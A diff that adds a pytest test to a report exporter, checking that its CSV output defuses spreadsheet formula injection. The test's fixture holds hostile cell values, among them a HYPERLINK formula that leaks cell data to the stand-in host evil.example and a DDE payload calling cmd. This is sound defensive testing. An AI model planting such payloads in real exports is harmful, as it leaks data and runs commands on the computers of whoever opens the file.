@@ -188,3 +188,23 @@ def test_report_of_a_year_without_articles(make_site) -> None:  # type: ignore[n
     assert data == ("\ufeff" + ",".join(CSV_HEADER) + "\r\n").encode("utf-8")
     text = report_command(config, 2020, "text", now=NOW).decode()
     assert text.count(NO_MODEL) == len(UNITS)
+
+
+def test_csv_cells_never_run_as_formulas(make_site) -> None:  # type: ignore[no-untyped-def]
+    """OWASP's CSV injection rule: a cell a spreadsheet would read as a formula starts with '."""
+    hostile = {
+        "unit": '=HYPERLINK("http://evil.example/?leak="&A1,"Bấm")',
+        "subject": "+SUM(1;1)*cmd|' /C calc'!A0",
+        "position": "-2+3",
+    }
+    model = article("Gương sáng thử", date="2025-03-10", subject=hostile["subject"],
+                    subject_kind="ca-nhan", position=hostile["position"], unit=hostile["unit"],
+                    awards=[{"name": "@SUM(1+1)", "year": 2025}])
+    site = make_site({"content/guong-dien-hinh/guong-sang.md": model})
+    config, _ = load_config(site)
+    data = report_command(config, 2025, "csv", now=NOW)
+    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))
+    cells = [c for row in rows[1:] for c in row]
+    assert not [c for c in cells if c.startswith(("=", "+", "-", "@", "\t", "\r"))]
+    for value in (*hostile.values(), "@SUM(1+1)"):
+        assert any(c.startswith("'") and value in c for c in cells), value
